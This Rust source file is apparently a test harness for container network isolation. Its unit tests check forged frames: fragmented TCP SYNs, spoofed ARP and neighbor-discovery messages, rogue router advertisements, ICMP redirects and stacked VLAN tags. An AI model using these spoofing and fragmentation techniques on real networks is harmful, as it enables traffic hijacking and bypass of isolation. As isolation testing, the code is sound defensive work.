pub fn send(ns: &Netns, ifname: &str, frames: &[Vec<u8>]) -> io::Result<()> {
    for f in frames {
        crate::frame::send_frame(ns, ifname, f.clone())?;
    }
    Ok(())
}

/// Does a TCP handshake from `ns` to the link-local (or any scoped)
/// address `ip%ifname`, port `port`, complete within `timeout`? The
/// attack of a container that reaches a host service listening on the
/// bridge's `fe80::` address.
pub fn tcp_connect_scoped(
    ns: &Netns,
    ifname: &str,
    ip: Ipv6Addr,
    port: u16,
    timeout: Duration,
) -> io::Result<bool> {
    let name = std::ffi::CString::new(ifname).map_err(io::Error::other)?;
    ns.run(move || {
        // SAFETY: `name` is a valid NUL-terminated string.
        let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
        if index == 0 {
            return Err(io::Error::last_os_error());
        }
        let to = SocketAddr::V6(SocketAddrV6::new(ip, port, 0, index));
        Ok(TcpStream::connect_timeout(&to, timeout).is_ok())
    })?
}

/// A source port for forged TCP/UDP, distinct per call so two tests (or
/// two probes of one test) never answer each other.
pub fn fresh_port() -> u16 {
    static PORT: AtomicU16 = AtomicU16::new(41000);
    PORT.fetch_add(1, Ordering::Relaxed)
}

#[cfg(test)]
mod tests {
    use super::*;

    const A: Mac = [0x02, 0xaa, 0, 0, 0, 1];
    const B: Mac = [0x02, 0xbb, 0, 0, 0, 2];

    fn v4(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    fn v6(s: &str) -> Ipv6Addr {
        s.parse().unwrap()
    }

    /// The ethertype after any tags, and where the payload starts.
    fn payload_of(frame: &[u8]) -> (u16, usize) {
        let mut at = 12;
        loop {
            let ty = u16::from_be_bytes([frame[at], frame[at + 1]]);
            if ty == ethertype::VLAN || ty == ethertype::QINQ {
                at += 4;
            } else {
                return (ty, at + 2);
            }
        }
    }

    /// Check an unfragmented IP frame's checksums by summing each part
    /// (with its pseudo-header) to 0xffff; return protocol and L4 bytes.
    fn verify(frame: &[u8]) -> (u8, Vec<u8>) {
        let (ty, at) = payload_of(frame);
        let p = &frame[at..];
        match ty {
            ethertype::IPV4 => {
                let ihl = usize::from(p[0] & 0x0f) * 4;
                assert_eq!(ones_complement_sum(&p[..ihl], 0), 0xffff, "IPv4 header");
                let total = usize::from(u16::from_be_bytes([p[2], p[3]]));
                assert_eq!(total, p.len(), "IPv4 total length");
                assert_eq!(u16::from_be_bytes([p[6], p[7]]) & 0x3fff, 0, "a fragment");
                let (src, dst) = (
                    IpAddr::V4(Ipv4Addr::new(p[12], p[13], p[14], p[15])),
                    IpAddr::V4(Ipv4Addr::new(p[16], p[17], p[18], p[19])),
                );
                let l4 = p[ihl..].to_vec();
                verify_l4(src, dst, p[9], &l4);
                (p[9], l4)
            }
            ethertype::IPV6 => {
                let len = usize::from(u16::from_be_bytes([p[4], p[5]]));
                assert_eq!(len + 40, p.len(), "IPv6 payload length");
                let src = IpAddr::V6(Ipv6Addr::from(<[u8; 16]>::try_from(&p[8..24]).unwrap()));
                let dst = IpAddr::V6(Ipv6Addr::from(<[u8; 16]>::try_from(&p[24..40]).unwrap()));
                let l4 = p[40..].to_vec();
                verify_l4(src, dst, p[6], &l4);
                (p[6], l4)
            }
            other => panic!("not IP: {other:#06x}"),
        }
    }

    fn verify_l4(src: IpAddr, dst: IpAddr, protocol: u8, l4: &[u8]) {
        let initial = if protocol == proto::ICMP {
            0
        } else {
            pseudo_header_sum(src, dst, protocol, l4.len())
        };
        assert_eq!(
            ones_complement_sum(l4, initial),
            0xffff,
            "L4 checksum of protocol {protocol}"
        );
        let at = checksum_offset(protocol);
        assert_ne!(&l4[at..at + 2], &[0, 0], "checksum left empty");
    }

    #[test]
    fn ones_complement_sum_matches_rfc1071_example() {
        // RFC 1071 section 3: 0001 f203 f4f5 f6f7 sums to ddf2.
        let data = [0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7];
        assert_eq!(ones_complement_sum(&data, 0), 0xddf2);
        assert_eq!(internet_checksum(&data, 0), !0xddf2);
        // An odd length is padded with a zero byte.
        assert_eq!(ones_complement_sum(&[0x12], 0), 0x1200);
    }

    #[test]
    fn ipv4_header_checksum_matches_known_value() {
        // The textbook header 4500 0073 0000 4000 4011 b861 c0a8 0001
        // c0a8 00c7.
        let h = ipv4_header(
            v4("192.168.0.1"),
            v4("192.168.0.199"),
            17,
            0x73 - 20,
            0,
            DF,
            64,
        );
        assert_eq!(&h[10..12], &[0xb8, 0x61]);
        assert_eq!(ones_complement_sum(&h, 0), 0xffff);
    }

    #[test]
    fn pseudo_header_matches_frame_rs() {
        // frame::udp_frame computes the IPv6 UDP checksum independently.
        let (s, d) = (v6("fd77:1::11"), v6("fd77:1::12"));
        let old = crate::frame::udp_frame(A, B, s.into(), d.into(), 8081, b"marker");
        let new = udp_to(A, B, s.into(), d.into(), 40000, 8081, b"marker");
        assert_eq!(old, new);
    }

    #[test]
    fn udp_checksums_verify() {
        for (src, dst) in [
            (IpAddr::V4(v4("10.77.1.11")), IpAddr::V4(v4("10.77.1.12"))),
            (
                IpAddr::V4(v4("10.77.1.11")),
                IpAddr::V4(Ipv4Addr::BROADCAST),
            ),
            (IpAddr::V4(v4("10.77.1.11")), IpAddr::V4(v4("224.0.0.1"))),
            (IpAddr::V6(v6("fe80::1")), IpAddr::V6(v6("ff02::1"))),
            (IpAddr::V6(v6("fe80::1")), IpAddr::V6(v6("fe80::2"))),
        ] {
            // An odd payload length exercises the padding of the sum.
            let f = udp_to(A, B, src, dst, 1234, 8081, b"odd");
            let (protocol, l4) = verify(&f);
            assert_eq!(protocol, proto::UDP);
            assert_eq!(u16::from_be_bytes([l4[4], l4[5]]), 11, "UDP length");
        }
    }

    #[test]
    fn tcp_syn_checksums_verify() {
        for (src, dst) in [
            (IpAddr::V4(v4("10.77.1.11")), IpAddr::V4(v4("10.77.1.12"))),
            (IpAddr::V6(v6("fd77:1::11")), IpAddr::V6(v6("fd77:1::12"))),
        ] {
            let (protocol, l4) = verify(&tcp_syn(A, B, src, dst, 40001, 8080));
            assert_eq!(protocol, proto::TCP);
            assert_eq!(l4.len(), 32);
            assert_eq!(l4[12] >> 4, 8, "data offset");
            assert_eq!(l4[13], 0x02, "SYN only");
            assert_eq!(&l4[4..8], &SYN_SEQ.to_be_bytes());
        }
    }

    #[test]
    fn ipv4_tiny_fragments_reassemble_to_a_valid_syn() {
        let (s, d) = (v4("10.77.1.11"), v4("10.77.1.12"));
        let frags = ipv4_fragments_tcp_syn(A, B, s, d, 40002, 8080);
        assert_eq!(frags.len(), 2);
        let mut tcp = Vec::new();
        let mut ids = Vec::new();
        for (i, f) in frags.iter().enumerate() {
            let p = &f[14..];
            assert_eq!(ones_complement_sum(&p[..20], 0), 0xffff, "IPv4 header");
            let field = u16::from_be_bytes([p[6], p[7]]);
            ids.push(u16::from_be_bytes([p[4], p[5]]));
            if i == 0 {
                assert_eq!(field, MF, "first: MF, offset 0");
                assert_eq!(p.len() - 20, 8, "first carries 8 bytes of TCP");
            } else {
                assert_eq!(field, 1, "second: offset 1 (8 bytes), last");
            }
            tcp.extend_from_slice(&p[20..]);
        }
        assert_eq!(ids[0], ids[1], "one datagram");
        assert_eq!(tcp[13], 0x02, "SYN, in the second fragment");
        verify_l4(s.into(), d.into(), proto::TCP, &tcp);
        assert_eq!(
            tcp,
            tcp_syn_segment(s.into(), d.into(), 40002, 8080),
            "reassembles to the unfragmented SYN"
        );
    }

    #[test]
    fn ipv6_fragments_reassemble_to_a_valid_syn() {
        let (s, d) = (v6("fd77:1::11"), v6("fd77:1::12"));
        for first in [8, 24] {
            let frags = ipv6_fragments_tcp_syn(A, B, s, d, 40003, 8080, first);
            let mut tcp = Vec::new();
            for (i, f) in frags.iter().enumerate() {
                let p = &f[14..];
                assert_eq!(p[6], proto::FRAGMENT);
                let len = usize::from(u16::from_be_bytes([p[4], p[5]]));
                assert_eq!(len + 40, p.len());
                let fh = &p[40..48];
                assert_eq!(fh[0], proto::TCP);
                let field = u16::from_be_bytes([fh[2], fh[3]]);
                let want = if i == 0 { 1 } else { ((first / 8) as u16) << 3 };
                assert_eq!(field, want, "offset and M flag");
                tcp.extend_from_slice(&p[48..]);
            }
            assert_eq!(frags[0].len(), 14 + 48 + first);
            verify_l4(s.into(), d.into(), proto::TCP, &tcp);
        }
    }

    #[test]
    fn nd_messages_verify() {
        let ll = eui64_link_local(A);
        let target = v6("fd77:1::10");
        let (group, group_mac) = solicited_node(v6("fd77:1::12"));
        let frames = [
            unsolicited_na(A, ll, target),
            neighbor_advert(
                A,
                B,
                target,
                v6("fd77:1::12"),
                target,
                None,
                NaFlags::default(),
            ),
            neighbor_solicit(A, group_mac, target, group, v6("fd77:1::12"), Some(A)),
            dad_probe(A, v6("fd77:1::99")),
            router_advert(
                A,
                multicast_mac(v6("ff02::1").into()).unwrap(),
                ll,
                1800,
                None,
            ),
            router_advert(
                A,
                B,
                ll,
                0,
                Some(PrefixInfo {
                    prefix: v6("2001:db8:bad::"),
                    len: 64,
                    on_link: true,
                    autonomous: true,
                    valid: 600,
                    preferred: 300,
                }),
            ),
            icmpv6_redirect(A, B, ll, v6("fd77:1::12"), ll, v6("2001:db8::2"), Some(A)),
        ];
        for f in &frames {
            let (protocol, m) = verify(f);
            assert_eq!(protocol, proto::ICMPV6);
            assert_eq!(f[14 + 7], 255, "hop limit 255");
            // Options fill the message exactly, in 8-byte units.
            let fixed = match m[0] {
                134 => 16,
                135 | 136 => 24,
                137 => 40,
                t => panic!("type {t}"),
            };
            let mut at = fixed;
            while at < m.len() {
                assert!(m[at + 1] > 0, "zero-length option");
                at += usize::from(m[at + 1]) * 8;
            }
            assert_eq!(at, m.len(), "options overrun");
        }
        // Flags of the unsolicited NA: O only.
        assert_eq!(verify(&frames[0]).1[4], 0x20);
        // DAD: from ::, no source link-layer option.
        let (_, dad) = verify(&frames[3]);
        assert_eq!(dad.len(), 24);
        assert_eq!(&frames[3][14 + 8..14 + 24], &[0; 16]);
    }

    #[test]
    fn icmp4_redirect_verifies() {
        let f = icmp4_redirect(
            A,
            B,
            v4("10.77.1.1"),
            v4("10.77.1.12"),
            v4("10.77.1.11"),
            v4("198.51.100.2"),
        );
        let (protocol, m) = verify(&f);
        assert_eq!(protocol, proto::ICMP);
        assert_eq!((m[0], m[1]), (5, 1));
        assert_eq!(&m[4..8], &[10, 77, 1, 11], "new gateway");
        let quoted = &m[8..];
        assert_eq!(quoted.len(), 28, "IP header + 8 bytes");
        assert_eq!(ones_complement_sum(&quoted[..20], 0), 0xffff);
        assert_eq!(ones_complement_sum(&quoted[20..], 0), 0xffff);
        assert_eq!(&quoted[16..20], &[198, 51, 100, 2]);
    }

    #[test]
    fn arp_layout() {
        let f = arp(
            A,
            BROADCAST,
            ArpOp::Request,
            A,
            v4("10.77.1.10"),
            [0; 6],
            v4("10.77.1.12"),
        );
        assert_eq!(f.len(), 42);
        assert_eq!(&f[12..14], &[0x08, 0x06]);
        assert_eq!(&f[20..22], &[0, 1]);
        let g = gratuitous_arp(A, v4("10.77.1.10"), ArpOp::Reply);
        assert_eq!(&g[20..22], &[0, 2]);
        assert_eq!(&g[22..28], &g[32..38], "reply: tha == sha");
        assert_eq!(&g[28..32], &g[38..42], "spa == tpa");
    }

    #[test]
    fn tags_nest_in_order() {
        let inner = ethertype_frame(A, B, ethertype::LOCAL_EXPERIMENTAL, b"m");
        for vids in [&[0u16][..], &[100], &[100, 200], &[1, 2, 3]] {
            let f = vlan_tagged(inner.clone(), vids);
            assert_eq!(f.len(), inner.len() + 4 * vids.len());
            assert_eq!(&f[..12], &inner[..12]);
            for (i, v) in vids.iter().enumerate() {
                let at = 12 + 4 * i;
                assert_eq!(&f[at..at + 2], &[0x81, 0x00]);
                assert_eq!(u16::from_be_bytes([f[at + 2], f[at + 3]]), *v);
            }
            assert_eq!(&f[12 + 4 * vids.len()..], &inner[12..]);
        }
        let q = qinq_tagged(inner.clone(), 10, &[20]);
        assert_eq!(&q[12..20], &[0x88, 0xa8, 0, 10, 0x81, 0x00, 0, 20]);
        let p = tagged(
            inner,
            &[Tag {
                tpid: 0x8100,
                pcp: 5,
                vid: 0,
            }],
        );
        assert_eq!(&p[14..16], &[0xa0, 0], "PCP 5 in the top bits");
        // A tagged IP frame keeps valid checksums.
        let udp = udp_to(A, B, v4("1.1.1.1").into(), v4("2.2.2.2").into(), 1, 2, b"x");
        verify(&vlan_tagged(udp, &[0, 0]));
    }

    #[test]
    fn llc_and_other_ethertypes() {
        let f = llc_frame(A, STP_GROUP, 0x42, 0x42, 0x03, b"bpdu");
        assert_eq!(u16::from_be_bytes([f[12], f[13]]), 7, "802.3 length");
        assert_eq!(f.len(), 14 + 7);
        let w = wake_on_lan(A, B, b"pw");
        assert_eq!(&w[..6], &BROADCAST);
        assert_eq!(&w[12..14], &[0x08, 0x42]);
        assert_eq!(&w[14..20], &[0xff; 6]);
        assert_eq!(&w[20..26], &B);
        assert_eq!(w.len(), 14 + 6 + 96 + 2);
        let l = lldp(A, LLDP_GROUP, b"mark");
        assert_eq!(&l[12..14], &[0x88, 0xcc]);
        assert!(l.ends_with(&[0, 0]), "end TLV");
    }

    #[test]
    fn addresses() {
        let mac = [0x52, 0x54, 0x00, 0x12, 0x34, 0x56];
        assert_eq!(eui64_link_local(mac), v6("fe80::5054:ff:fe12:3456"));
        let (g, m) = solicited_node(v6("fd77:1::12:3456"));
        assert_eq!(g, v6("ff02::1:ff12:3456"));
        assert_eq!(m, [0x33, 0x33, 0xff, 0x12, 0x34, 0x56]);
        assert_eq!(
            multicast_mac(v4("224.0.0.1").into()),
            Some([1, 0, 0x5e, 0, 0, 1])
        );
        assert_eq!(
            multicast_mac(v4("239.200.1.2").into()),
            Some([1, 0, 0x5e, 0x48, 1, 2]),
            "only 23 bits"
        );
        assert_eq!(multicast_mac(Ipv4Addr::BROADCAST.into()), Some(BROADCAST));
        assert_eq!(
            multicast_mac(v6("ff02::1").into()),
            Some([0x33, 0x33, 0, 0, 0, 1])
        );
        assert_eq!(multicast_mac(v4("10.0.0.1").into()), None);
    }
}
